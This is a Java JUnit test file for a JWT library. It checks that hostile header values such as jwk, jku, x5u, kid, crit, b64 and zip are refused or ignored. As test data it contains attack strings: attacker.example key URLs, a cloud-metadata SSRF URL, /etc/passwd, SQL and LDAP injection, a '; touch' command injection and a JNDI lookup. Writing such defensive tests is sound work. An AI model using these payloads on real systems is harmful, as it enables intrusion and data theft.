// SPDX-License-Identifier: Apache-2.0
package io.github.gameauth.token;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.github.gameauth.key.Algorithm;
import io.github.gameauth.testing.TestIssuer;
import io.github.gameauth.testing.TestKey;
import io.github.gameauth.testing.TestToken;
import io.github.gameauth.token.Rejection.Reason;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attacks through the header, numbered as in the attack catalogue. Every token is really signed.
 */
final class HeaderAttacksTest {
  private static final TestIssuer ISSUER = TestIssuer.create();
  private static final TestKey KEY = ISSUER.key();
  private static final Door DOOR = Door.with(KEY.forVerification());

  @Nested
  @DisplayName("C. Header as a steering wheel")
  class SteeringWheel {
    private final TestKey attacker = TestKey.named("an attacker", Algorithm.RS256);

    @Test
    @DisplayName("C1: jwk brings the attacker's key")
    void embeddedKeyIsNeverUsed() {
      TestToken forged = token().signedWith(attacker).header("jwk", attacker.jwk());

      DOOR.refuses(Reason.KEY_UNKNOWN, forged.signed());
      DOOR.refuses(Reason.SIGNATURE, forged.header("kid", ISSUER.kid()).signed());
      DOOR.refuses(Reason.SIGNATURE, forged.withoutHeader("kid").signed());
    }

    @ParameterizedTest
    @ValueSource(strings = {"jwk", "x5c", "x5t", "x5t#S256", "jku", "x5u"})
    @DisplayName("C1, C2, C3: an honest token that carries or locates keys is judged without them")
    void membersAboutKeysMeanNothing(String member) {
      for (Object value :
          Arrays.asList(
              "https://attacker.example/jwks.json",
              "http://169.254.169.254/latest/meta-data/",
              "file:///etc/passwd",
              List.of("MIIB"),
              attacker.jwk(),
              17,
              null)) {
        DOOR.letsIn(token().header(member, value).signed());
        DOOR.refuses(
            Reason.SIGNATURE,
            token()
                .signedWith(attacker)
                .header("kid", ISSUER.kid())
                .header(member, value)
                .signed());
      }
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "../../../../dev/null",
          "/proc/self/environ",
          "x' OR '1'='1",
          "x' UNION SELECT 'secret' --",
          "*)(uid=*))(|(uid=*",
          "; touch /tmp/owned",
          "%s%n%x",
          "${jndi:ldap://attacker.example/a}",
          "https://attacker.example/key",
        })
    @DisplayName("C4: kid as path, query, command, format or URL is looked up as it stands")
    void kidIsDataAndNoMore(String kid) {
      DOOR.refuses(Reason.KEY_UNKNOWN, token().header("kid", kid).signed());
      TestKey named = KEY.withKeyId(kid);
      assertEquals(
          Optional.of(kid),
          Door.with(named.forVerification())
              .letsIn(token().signedWith(named).signed())
              .key()
              .keyId());
    }

    @Test
    @DisplayName("C5: kid of 256, 257 and thousands of characters")
    void longKidIsOverALimit() {
      DOOR.refuses(Reason.KEY_UNKNOWN, token().header("kid", "k".repeat(256)).signed());
      DOOR.refuses(Reason.LIMIT, token().header("kid", "k".repeat(257)).signed());
      DOOR.refuses(Reason.LIMIT, token().header("kid", "k".repeat(5_000)).signed());
      DOOR.refuses(Reason.LIMIT, token().header("kid", "k".repeat(1_000_000)).signed());
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "a\r\nb", "a\nb", "\u001b[2J", "a\u0000", "a\u007f", "a\u0085b", "\u202eabc", "a\u200bb",
          "a\u2066b", "\ufeffa", "a\u2028b", "a\ufe0f", "\u3164", "a\u00adb", "\ue000",
              "\ud83f\udfff"
        })
    @DisplayName("C5: kid with characters that do not show, or move others")
    void unprintableKidIsRefused(String kid) {
      DOOR.refuses(Reason.HEADER, token().header("kid", kid).signed());
    }

    @Test
    @DisplayName("C6: kid is null, a number, true, an object or an array")
    void kidThatIsNoTextIsRefused() {
      for (Object kid : Arrays.asList(null, 1, 1.5, true, Map.of("kid", "a"), List.of("a"))) {
        DOOR.refuses(Reason.HEADER, token().header("kid", kid).signed());
      }
    }

    @Test
    @DisplayName("C6, C8: kid is empty, or what a cache might use for no kid")
    void emptyKidIsAnIdLikeAnyOther() {
      for (String kid : List.of("", "null", "undefined", "none", "default", "*", "0", " ")) {
        DOOR.refuses(Reason.KEY_UNKNOWN, token().header("kid", kid).signed());
      }
    }

    @Test
    @DisplayName("C7: kid in another case, with a space, or normalised otherwise")
    void kidIsComparedExactly() {
      TestKey named = KEY.withKeyId("Schl\u00fcssel-1");
      Door door = Door.with(named.forVerification());

      door.letsIn(token().signedWith(named).signed());
      for (String kid :
          List.of(
              "schl\u00fcssel-1", "Schl\u00fcssel-1 ", " Schl\u00fcssel-1", "Schlu\u0308ssel-1")) {
        door.refuses(Reason.KEY_UNKNOWN, token().header("kid", kid).signed());
      }
    }

    @Test
    @DisplayName("C9: without a kid the token names none, and nothing stands in for it")
    void missingKidIsTold() throws TokenRejectedException {
      UnverifiedToken token =
          UnverifiedToken.parse(
              token().withoutHeader("kid").signed(), TokenLimits.DEFAULT, DOOR.allowed());

      assertEquals(Optional.empty(), token.keyId());
    }

    @ParameterizedTest
    @ValueSource(strings = {"typ", "cty"})
    @DisplayName("C10: typ and cty that are no short printable text")
    void mediaTypeOfAnotherFormIsRefused(String member) {
      for (Object value :
          Arrays.asList(
              null, 1, true, List.of("JWT"), Map.of(), "J\nWT", "JWT\u200b", "t".repeat(129))) {
        DOOR.refuses(Reason.HEADER, token().header(member, value).signed());
      }
      DOOR.letsIn(token().header(member, "t".repeat(128)).signed());
    }

    @Test
    @DisplayName("C11: a header of 4096 bytes, of 4097, of 300 members, of megabytes")
    void largeHeaderIsOverALimit() {
      DOOR.letsIn(token().rawHeader(headerOfLength(4096)).signed());
      DOOR.refuses(Reason.LIMIT, token().rawHeader(headerOfLength(4097)).signed());
      // Not JSON at all, yet too long: length is judged first.
      DOOR.refuses(Reason.LIMIT, token().rawHeader("[".repeat(4097)).signed());
      DOOR.refuses(Reason.MALFORMED, token().rawHeader("[".repeat(4096)).signed());
      DOOR.refuses(Reason.LIMIT, token().rawHeader(headerOfMembers(257)).signed());
      DOOR.letsIn(token().rawHeader(headerOfMembers(256)).signed());
      DOOR.refuses(Reason.LIMIT, token().rawHeader(headerOfMembers(10_000)).signed());
      DOOR.refuses(Reason.LIMIT, token().rawHeader(headerOfLength(2_000_000)).signed());
    }

    private static String headerOfLength(int length) {
      String start = start() + ",\"pad\":\"";
      return start + "x".repeat(length - start.length() - 2) + "\"}";
    }

    private static String headerOfMembers(int count) {
      StringBuilder header = new StringBuilder(start());
      for (int i = 2; i < count; i++) {
        header.append(",\"m").append(i).append("\":1");
      }
      return header.append('}').toString();
    }

    private static String start() {
      return "{\"alg\":\"RS256\",\"kid\":\"" + ISSUER.kid() + "\"";
    }
  }

  @Nested
  @DisplayName("D. crit, b64, zip")
  class Extensions {
    @Test
    @DisplayName("D1: crit names something unknown, and the signature is good")
    void unknownCriticalExtensionIsRefused() {
      DOOR.refuses(
          Reason.HEADER,
          token().header("crit", List.of("http://example.com/x")).header("x", 1).signed());
      DOOR.refuses(
          Reason.HEADER,
          token()
              .header("crit", List.of("http://example.com/x"))
              .header("http://example.com/x", true)
              .signed());
    }

    @Test
    @DisplayName("D2: crit in every other form")
    void anyCritIsRefused() {
      List<Object> forms =
          new ArrayList<>(
              List.of(
                  List.of(),
                  "",
                  "exp",
                  1,
                  true,
                  Map.of(),
                  List.of(1),
                  List.of("exp", "exp"),
                  List.of("alg"),
                  List.of("not-there"),
                  List.of("b64"),
                  List.of(List.of("exp"))));
      forms.add(null);
      forms.add(Arrays.asList((Object) null));

      for (Object crit : forms) {
        DOOR.refuses(Reason.HEADER, token().header("crit", crit).signed());
      }
    }

    @Test
    @DisplayName("D3: b64=false with crit, its payload as it is")
    void unencodedPayloadIsRefused() {
      Map<String, Object> header = new LinkedHashMap<>();
      header.put("b64", false);
      header.put("crit", List.of("b64"));
      TestToken token = token();
      header.forEach(token::header);
      String[] segments = token.signed().split("\\.");

      for (String payload : List.of("{\"sub\":\"p-1\"}", "$.02", "p-1", "")) {
        String content = segments[0] + "." + payload;
        Reason reason = payload.contains(".") ? Reason.MALFORMED : Reason.HEADER;
        DOOR.refuses(reason, content + "." + segments[2]);
      }
    }

    @Test
    @DisplayName("D4: b64 without crit, and b64 at all")
    void anyB64IsRefused() {
      for (Object b64 : Arrays.asList(false, true, null, "false", 0)) {
        DOOR.refuses(Reason.HEADER, token().header("b64", b64).signed());
      }
    }

    @Test
    @DisplayName("D5: zip on a signed token")
    void anyZipIsRefused() {
      for (Object zip : Arrays.asList("DEF", "GZIP", "", null, 1)) {
        DOOR.refuses(Reason.HEADER, token().header("zip", zip).signed());
      }
    }
  }

  private static TestToken token() {
    return ISSUER.token();
  }
}
